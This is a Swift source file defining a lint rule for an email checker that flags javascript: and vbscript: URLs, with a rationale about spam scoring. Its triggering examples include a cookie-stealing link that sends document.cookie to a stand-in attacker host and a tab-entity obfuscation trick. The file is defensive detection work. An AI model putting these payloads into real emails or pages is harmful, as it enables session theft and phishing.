/// Flags javascript: and vbscript: URLs.
struct LinkJavaScriptURIRule: Rule {
    init() {}

    static let scriptSchemes: Set<String> = ["javascript", "vbscript", "livescript"]

    let description = RuleDescription(
        id: "link-javascript-uri", name: "javascript: or vbscript: URL", category: .links, severity: .error, score: 3.0,
        summary: "A link, form, image or CSS url() uses a javascript: or vbscript: URL.",
        rationale: """
            Mail clients never run scripts, so a script URL does nothing for the reader and only marks the \
            message: Microsoft's anti-spam ASF option "JavaScript or VBScript in HTML" marks such mail as \
            high-confidence spam (SCL 9), and script URLs are a classic XSS and phishing vector. Tab and newline \
            tricks (java&#9;script:) are read the way browsers read them.
            """,
        fix: "Replace it with an https:// link to a web page; use a plain <span> for non-links.",
        triggeringExamples: [
            RuleExample(#"<p><a href="↓javascript:document.location='https://evil.example/'+document.cookie">View invoice</a></p>"#),
            RuleExample(#"<p><a href="↓VBScript:MsgBox('hi')">Open</a></p>"#),
            RuleExample("<p><a href=\"java&#9;script:alert(1)\">Open</a></p>"),
        ],
        nonTriggeringExamples: [
            RuleExample(#"<p><a href="https://www.acme.example/invoice">View invoice</a> about javascript: in the text</p>"#),
        ]
    )

    func check(_ document: EmailDocument, in context: RuleContext) -> [Violation] {
        document.bodyLinks.compactMap { link in
            guard let scheme = link.scheme, LinkJavaScriptURIRule.scriptSchemes.contains(scheme) else { return nil }
            return Violation("\(link.kind == .anchor ? "link" : link.kind.rawValue) uses a \(scheme): URL, which mail clients strip and filters score",
                             evidence: EvidenceText.shortened(link.href, limit: 80), at: link.position)
        }
    }
}
